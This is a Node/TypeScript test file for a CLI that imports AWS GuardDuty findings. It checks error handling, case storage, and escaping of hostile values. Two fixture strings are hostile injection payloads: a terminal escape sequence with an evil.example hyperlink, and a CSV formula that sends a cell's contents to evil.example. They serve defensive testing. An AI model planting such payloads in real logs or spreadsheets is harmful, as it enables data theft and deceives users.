import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { CaseStore } from '../src/cases/store.js';
import * as fx from '../src/guardduty/fixtures.test-data.js';
import { runCli } from './helpers/run-cli.js';

const dir = mkdtempSync(join(tmpdir(), 'garrison-gd-cli-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const HOSTILE_UA = '\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007\u001b[2J\u202eexe.txt';
const FORMULA_UA = '=HYPERLINK("http://evil.example/?"&A1,"open")';

function env(db: string): NodeJS.ProcessEnv {
  // No AWS here: an unroutable endpoint proves import never calls AWS.
  return {
    GARRISON_DB: db,
    AWS_ENDPOINT_URL: 'http://127.0.0.1:9',
    AWS_ACCESS_KEY_ID: 'x',
    AWS_SECRET_ACCESS_KEY: 'x',
  };
}

function files() {
  const hostile = fx.iamUserFinding('mallory', HOSTILE_UA);
  const formula = fx.iamUserFinding('eve', FORMULA_UA);
  const missingResource = fx.ec2Finding();
  delete missingResource.resource;
  const unknownType = { ...fx.ec2Finding(), type: 'Mystery:Thing/Whatever' };
  const wrongTypes = { ...fx.s3PolicyFinding(), id: 'x\u001b[31mred\u202e', severity: 'HIGH', createdAt: 12 };
  const exportFile = join(dir, `export-${Math.random().toString(16).slice(2)}.jsonl.gz`);
  writeFileSync(
    exportFile,
    gzipSync([hostile, missingResource, formula, unknownType].map((f) => JSON.stringify(f)).join('\n')),
  );
  const eventFile = join(dir, 'event.json');
  writeFileSync(eventFile, JSON.stringify(fx.eventOf(fx.kubernetesFinding())));
  const arrayFile = join(dir, 'array.json');
  writeFileSync(arrayFile, JSON.stringify([fx.s3ExfiltrationFinding(), wrongTypes]));
  return { exportFile, eventFile, arrayFile, hostile, formula };
}

describe('garrison guardduty import (CLI)', () => {
  it('imports the valid findings, counts and explains the malformed ones, exits 2', async () => {
    const db = join(dir, 'a.db');
    const f = files();
    const r = await runCli(
      ['guardduty', 'import', f.exportFile, f.eventFile, f.arrayFile, '--format', 'json'],
      { env: env(db) },
    );
    assert.equal(r.status, 2, r.stderr);
    const out = JSON.parse(r.stdout);
    assert.equal(out.findings.length, 4);
    assert.equal(out.summary.rejected_records, 3);
    assert.deepEqual(
      out.summary.rejected.map((x: { where: string }) => x.where.replace(dir, '')),
      [
        '/' + f.exportFile.split('/').pop() + ':2',
        '/' + f.exportFile.split('/').pop() + ':4',
        '/array.json[1]',
      ],
    );
    assert.match(r.stderr, /4 findings .*3 rejected; 4 new and 0 updated in the case store, unassigned/);
    assert.match(r.stderr, /:2 \(.*\): resource: /);
    assert.match(r.stderr, /:4 \(.*\): type: not a known GuardDuty finding type/);
    assert.match(r.stderr, /array\.json\[1\] \(.*\): id: not a GuardDuty finding id; severity: .*createdAt/);
    assert.doesNotMatch(r.stderr, /[\u001b\u202e]/, 'a hostile finding id is shown escaped');
    assert.match(r.stderr, /\(x\\x1b\[31mred\\u202e\)/);
    const store = CaseStore.open(db);
    try {
      const stored = store.findings.forCase(null);
      assert.equal(stored.length, 4);
      assert.ok(stored.every((s) => s.source === 'guardduty'));
    } finally {
      store.close();
    }
  });

  it('stores into --case; a second import of the same findings updates instead of adding', async () => {
    const db = join(dir, 'b.db');
    const store = CaseStore.open(db);
    const c = store.cases.create({ title: 'triage', severity: 'high' });
    store.close();
    const file = join(dir, 'one.json');
    writeFileSync(file, JSON.stringify(fx.runtimeFinding()));
    const first = await runCli(['guardduty', 'import', file, '--case', c.id, '--format', 'ndjson'], {
      env: env(db),
    });
    assert.equal(first.status, 0, first.stderr);
    const again = await runCli(['guardduty', 'import', file, '--format', 'ndjson', '--fail-on', 'high'], {
      env: env(db),
    });
    assert.equal(again.status, 3, `a high finding with --fail-on high: ${again.stderr}`);
    assert.match(again.stderr, /0 new and 1 updated/);
    const check = CaseStore.open(db);
    try {
      assert.equal(check.findings.forCase(c.id).length, 1);
    } finally {
      check.close();
    }
    const unknown = await runCli(['guardduty', 'import', file, '--case', 'case-nope'], { env: env(db) });
    assert.equal(unknown.status, 1);
    assert.match(unknown.stderr, /no case "case-nope"/);
  });

  it('hostile user agents are inert on the terminal table and in CSV', async () => {
    const db = join(dir, 'c.db');
    const f = files();
    const file = join(dir, 'hostile.json');
    writeFileSync(file, JSON.stringify([f.hostile, f.formula]));
    const csv = await runCli(['guardduty', 'import', file, '--format', 'csv'], { env: env(db) });
    assert.equal(csv.status, 0, csv.stderr);
    assert.doesNotMatch(csv.stdout, /[\u001b\u0007\u202e]/);
    assert.match(csv.stdout, /\\x1b\]8;;http:\/\/evil\.example/);
    const lines = csv.stdout.split('\r\n');
    const header = (lines[0] ?? '').split(',');
    const uaColumn = header.indexOf('user_agents');
    assert.ok(uaColumn > 0);
    assert.ok(
      lines.some((l) => l.includes(`"'=HYPERLINK(""http://evil.example/?""&A1`)),
      'formula cell is quoted and prefixed',
    );
    const table = await runCli(['guardduty', 'import', file, '--format', 'table'], { env: env(db) });
    assert.equal(table.status, 0, table.stderr);
    assert.doesNotMatch(table.stdout + table.stderr, /[\u001b\u0007\u202e]/);
    assert.match(table.stdout, /guardduty:UnauthorizedAccess:IAMUser/);
    const json = await runCli(['guardduty', 'import', file, '--format', 'json'], { env: env(db) });
    const parsed = JSON.parse(json.stdout);
    assert.deepEqual(parsed.findings[0].user_agents, [HOSTILE_UA], 'JSON keeps the exact value');
    assert.doesNotMatch(json.stdout, /[\u001b\u0007\u202e]/);
  });

  it('reads the AWS CLI get-findings answer (PascalCase) from stdin', async () => {
    const answer = { Findings: [fx.pascal(fx.s3PolicyFinding()), fx.pascal(fx.exfiltrationFinding())] };
    const r = await runCli(['guardduty', 'import', '-', '--format', 'json'], {
      env: env(join(dir, 'stdin.db')),
      input: JSON.stringify(answer),
    });
    assert.equal(r.status, 0, r.stderr);
    const out = JSON.parse(r.stdout);
    assert.deepEqual(
      out.findings.map((f: { playbook: string }) => f.playbook),
      ['s3-bucket', 'iam-role+ec2'],
    );
  });

  it('a file that does not exist exits 1 with the reason', async () => {
    const r = await runCli(['guardduty', 'import', join(dir, 'missing.json')], {
      env: env(join(dir, 'd.db')),
    });
    assert.equal(r.status, 1);
    assert.match(r.stderr, /cannot read .*missing\.json/);
  });
});
